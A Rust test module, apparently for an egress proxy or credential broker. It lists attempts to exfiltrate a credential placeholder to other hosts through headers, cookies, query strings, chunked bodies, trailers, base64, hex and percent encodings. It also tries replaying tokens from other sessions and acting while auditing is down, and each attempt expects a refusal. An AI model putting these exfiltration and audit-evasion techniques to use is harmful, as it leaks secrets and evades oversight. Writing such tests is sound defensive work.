//! Placeholders: to other hosts, in other places, encoded, of other sessions.

use rustix::io::Errno;

use crate::commands::egress::test::attempt::{Attempt, Harm, Layer, Session, Shown, Talk, Two};

const ALLOWED: &str = "Host: allowed.test:{https}\r\nConnection: close\r\n";
const FRIEND: &str = "Host: friend.test:{https}\r\nConnection: close\r\n";
const MISUSED: &[&str] = &["credential_misused"];

fn friend(name: &str, tries: &'static str, says: &[&str]) -> Attempt {
    Attempt::new(format!("placeholder.{name}"), tries)
        .act(Talk::inside("friend.test", says))
        .refused(Layer::Broker, MISUSED)
}

fn place(name: &str, tries: &'static str, says: &[&str]) -> Attempt {
    Attempt::new(format!("place.{name}"), tries)
        .harm(Harm::Value)
        .act(Talk::allowed(says))
        .refused(Layer::Broker, MISUSED)
}

pub(super) fn attempts() -> Vec<Attempt> {
    let get = |path: &str, headers: &str| format!("GET {path} HTTP/1.1\r\n{FRIEND}{headers}\r\n");
    let bearer = |text: &str| format!("GET /v1/{{token}} HTTP/1.1\r\n{ALLOWED}Authorization: Bearer {text}\r\n\r\n");
    let to_friend = |name: &str, tries, text: &str| friend(name, tries, &[&get("/{token}", text)]);
    vec![
        to_friend("header", "send the placeholder in a header to another allowed host", "Authorization: Bearer {placeholder}\r\n"),
        to_friend("own-header", "the same in a header of one's own", "X-Data: a{placeholder}b\r\n"),
        to_friend("basic", "the same within Basic", "Authorization: Basic {basic}\r\n"),
        to_friend("base64", "the same in base64", "X-Data: {base64}\r\n"),
        to_friend("base64-shifted", "the same in base64 that begins elsewhere", "X-Data: {base64-shifted}\r\n"),
        to_friend("base64-url", "the same in the base64 of URLs", "X-Data: {base64-url}\r\n"),
        to_friend("hex", "the same in hexadecimal", "X-Data: {hex}\r\n"),
        to_friend("cookie", "the same in a cookie", "Cookie: a=b; c={placeholder}\r\n"),
        friend("query", "the same in the query", &[&get("/{token}?key={placeholder}", "")]),
        friend("query-percent", "the same in the query, encoded", &[&get("/{token}?key={percent}", "")]),
        friend("path", "the same in the path", &[&get("/{token}/{placeholder}", "")]),
        friend("body", "the same in a body; what follows it must not arrive", &[
            &format!("POST / HTTP/1.1\r\n{FRIEND}Transfer-Encoding: chunked\r\n\r\n"),
            "{half}\r\n{first-half}\r\n{other-half}\r\n{second-half}\r\n",
            "12\r\n {token}\r\n0\r\n\r\n",
        ]),
        friend("body-json", "the same as JSON may write it", &[&get("/{token}", "X-Data: \"{json}\"\r\n")]),
        friend("trailer", "the same in a trailer", &[&format!(
            "POST / HTTP/1.1\r\n{FRIEND}TE: trailers\r\nTrailer: X-Data\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nX-Data: {{placeholder}}{{token}}\r\n\r\n"
        )]),
        Attempt::new("placeholder.plain-host", "send it to a host that is allowed without TLS")
            .act(Talk::with("plain.test:{http}", &["GET /{token} HTTP/1.1\r\nHost: plain.test:{http}\r\nConnection: close\r\nX-Data: {anywhere}\r\n\r\n"]))
            .refused(Layer::Broker, MISUSED),
        Attempt::new("placeholder.cleartext", "send it without TLS to a host that its credential names")
            .act(Talk::with("plain.test:{http}", &["GET /{token} HTTP/1.1\r\nHost: plain.test:{http}\r\nConnection: close\r\nAuthorization: Bearer {placeholder}\r\n\r\n"]))
            .refused(Layer::Broker, &["tls_required"]),
        Attempt::new("placeholder.http2", "send it to another allowed host over HTTP/2")
            .act(Two {
                to: "friend.test:{https}".to_owned(),
                plain: false,
                requests: vec![("GET", "https://friend.test:{https}/{token}".to_owned(), vec![("authorization", "Bearer {placeholder}".to_owned())])],
            })
            .refused(Layer::Broker, MISUSED),
        Attempt::new("placeholder.below", "send it to a name beside the host that its credential names")
            .act(Talk::inside("api.allowed.test", &["GET /v1/{token} HTTP/1.1\r\nHost: api.allowed.test:{https}\r\nConnection: close\r\nAuthorization: Bearer {placeholder}\r\n\r\n"]))
            .refused(Layer::Broker, MISUSED),
        Attempt::new("placeholder.unknown-host", "send it to a host that no rule names")
            .act(Talk::tunnel("other.test:{other}", &["GET /{token} HTTP/1.1\r\nHost: other.test:{other}\r\nAuthorization: Bearer {placeholder}\r\n\r\n"]).tls("other.test"))
            .refused(Layer::Policy, &["not_allowed"]),
        place("query", "have the value put into a query, where it is not enabled", &[&format!("GET /v1/{{token}}?key={{placeholder}} HTTP/1.1\r\n{ALLOWED}\r\n")]),
        place("path", "the same in a path", &[&format!("GET /v1/{{placeholder}} HTTP/1.1\r\n{ALLOWED}\r\n")]),
        place("body", "the same in a body, where it stays as it is", &[
            &format!("POST /v1/ HTTP/1.1\r\n{ALLOWED}Transfer-Encoding: chunked\r\n\r\n"),
            "{half}\r\n{first-half}\r\n{other-half}\r\n{second-half}\r\n",
            "12\r\n {token}\r\n0\r\n\r\n",
        ])
            .shown(Layer::Broker, Shown::Said("HTTP/1.1 200 OK")),
        Attempt::new("session.replay", "use a placeholder of another session")
            .harm(Harm::Token)
            .act(Talk::allowed(&[&bearer("{foreign}")]))
            .refused(Layer::Broker, MISUSED),
        Attempt::new("session.replay-elsewhere", "send a placeholder of another session to another allowed host")
            .act(Talk::inside("friend.test", &[&get("/{token}", "X-Data: {foreign}\r\n")]))
            .refused(Layer::Broker, MISUSED),
        Attempt::new("session.revoked", "use a credential that was revoked")
            .in_session(Session::Revoked)
            .act(Talk::allowed(&[&bearer("{placeholder}")]))
            .refused(Layer::Broker, &["credential_unavailable"]),
        Attempt::new("session.ended", "go on when the session has ended")
            .in_session(Session::Ended)
            .act(Talk::allowed(&[&bearer("{placeholder}")]))
            .shown(Layer::End, Shown::Errno(&[Errno::CONNREFUSED])),
        Attempt::new("session.ended-transparent", "the same without the proxy, by an address that was once a name's")
            .in_session(Session::Ended)
            .act(Talk::with("198.18.0.1:{https}", &[&bearer("{placeholder}")]).tls("allowed.test"))
            .shown(Layer::End, Shown::Errno(&[Errno::CONNREFUSED])),
        Attempt::new("session.untraced", "send something while the audit trail keeps nothing")
            .in_session(Session::Untraced)
            .act(Talk::allowed(&[&bearer("nothing")]))
            .shown(Layer::Trail, Shown::Said("audit_unavailable")),
        Attempt::new("session.untraced-through", "the same in a connection that is carried as it is")
            .in_session(Session::Untraced)
            .act(Talk::with("tcp.test:{tcp}", &["{token}"]))
            .shown(Layer::Trail, Shown::Errno(&[Errno::CONNRESET])),
        Attempt::new("session.untraced-refusal", "ask for what is refused while the audit trail keeps nothing")
            .in_session(Session::Untraced)
            .act(Talk::tunnel("other.test:{other}", &[&bearer("nothing")]))
            .shown(Layer::Trail, Shown::Said("audit_unavailable")),
    ]
}
